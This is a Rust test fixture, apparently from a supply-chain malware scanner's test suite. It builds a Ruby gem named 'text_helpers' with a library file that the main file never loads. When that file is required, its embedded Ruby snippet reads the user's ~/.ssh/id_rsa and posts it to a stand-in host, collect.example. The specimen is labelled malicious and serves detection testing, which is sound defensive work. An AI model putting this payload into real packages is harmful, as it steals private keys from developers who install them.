//! A gem one of whose library files, which the main one does not load, sends an SSH key when it is required.
//!
//! Must be found: every file of `lib` is required.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const HELPER: &str = r"require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/require'), File.read(File.expand_path('~/.ssh/id_rsa')))
rescue StandardError
  nil
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("text_helpers", "4.0.0")
        .file("lib/text_helpers/compat/legacy.rb", HELPER)
        .file("lib/text_helpers.rb", "module TextHelpers\nend\n");
    package
        .specimen("gem-require", Expect::malicious(&["canary-exfiltrated"]))
        .telling("when it is imported")
}
